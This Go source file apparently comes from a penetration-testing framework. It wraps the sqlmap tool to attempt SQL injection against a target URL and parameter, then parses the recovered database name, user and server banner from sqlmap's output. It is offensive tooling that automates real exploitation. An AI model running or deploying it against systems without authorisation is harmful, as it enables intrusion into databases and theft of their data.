package exploit

import (
	"bytes"
	"context"
	"fmt"
	"os/exec"
	"regexp"
	"strings"

	"github.com/rs/zerolog"

	"github.com/ahmad-20th/GrayTera/pkg/config"
)

// sqlmap output lines carrying the values we ask for
var sqlmapExtractors = map[string]*regexp.Regexp{
	"database": regexp.MustCompile(`current database:\s*'([^']*)'`),
	"user":     regexp.MustCompile(`current user:\s*'([^']*)'`),
	"version":  regexp.MustCompile(`banner:\s*'([^']*)'`),
}

// techniqueFlags maps our technique names to sqlmap's --technique codes
var techniqueFlags = map[string]string{
	"error":         "E",
	"boolean_blind": "B",
	"time_blind":    "T",
	"union":         "U",
}

// SQLMapDelegate shells out to sqlmap for one bounded exploitation
// attempt per vulnerability
type SQLMapDelegate struct {
	binaryPath string
	logger     zerolog.Logger
}

// NewSQLMapDelegate resolves the sqlmap binary. A missing binary is not
// an error here; Run reports ErrToolUnavailable so the cascade can fall
// back.
func NewSQLMapDelegate(cfg *config.DelegateConfig, logger zerolog.Logger) *SQLMapDelegate {
	path := cfg.BinaryPath
	if path == "" {
		if resolved, err := exec.LookPath("sqlmap"); err == nil {
			path = resolved
		}
	}

	return &SQLMapDelegate{
		binaryPath: path,
		logger:     logger.With().Str("delegate", "sqlmap").Logger(),
	}
}

func (d *SQLMapDelegate) Name() string {
	return "sqlmap"
}

// Run performs a single sqlmap invocation. The context bounds the whole
// subprocess; cancellation kills it.
func (d *SQLMapDelegate) Run(ctx context.Context, req DelegateRequest) (*DelegateResult, error) {
	if d.binaryPath == "" {
		return nil, fmt.Errorf("sqlmap not found in PATH: %w", ErrToolUnavailable)
	}

	args := []string{
		"-u", req.TargetURL,
		"-p", req.Parameter,
		"--batch",
		"--flush-session",
	}
	if req.Method != "" && req.Method != "GET" {
		args = append(args, "--method", req.Method)
	}
	if code, ok := techniqueFlags[req.Technique]; ok {
		args = append(args, "--technique", code)
	}
	if req.DBMS != "" && req.DBMS != "Unknown" {
		args = append(args, "--dbms", strings.ToLower(req.DBMS))
	}
	for _, field := range req.Fields {
		switch field {
		case "database":
			args = append(args, "--current-db")
		case "user":
			args = append(args, "--current-user")
		case "version":
			args = append(args, "--banner")
		}
	}

	d.logger.Debug().Strs("args", args).Msg("invoking sqlmap")

	cmd := exec.CommandContext(ctx, d.binaryPath, args...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout = &stdout
	cmd.Stderr = &stderr

	if err := cmd.Run(); err != nil {
		if ctx.Err() != nil {
			return nil, fmt.Errorf("sqlmap interrupted: %w", ctx.Err())
		}
		return nil, fmt.Errorf("sqlmap exited with error: %w (%s)", err, firstLine(stderr.String()))
	}

	output := stdout.String()
	data := parseSQLMapOutput(output, req.Fields)
	if len(data) == 0 {
		return nil, fmt.Errorf("sqlmap recovered no data")
	}

	return &DelegateResult{
		ExtractedData: data,
		Output:        output,
	}, nil
}

// parseSQLMapOutput pulls the requested fields out of sqlmap's stdout
func parseSQLMapOutput(output string, fields []string) map[string]string {
	data := make(map[string]string)
	for _, field := range fields {
		re, ok := sqlmapExtractors[field]
		if !ok {
			continue
		}
		if m := re.FindStringSubmatch(output); m != nil && m[1] != "" {
			data[field] = m[1]
		}
	}
	return data
}

func firstLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
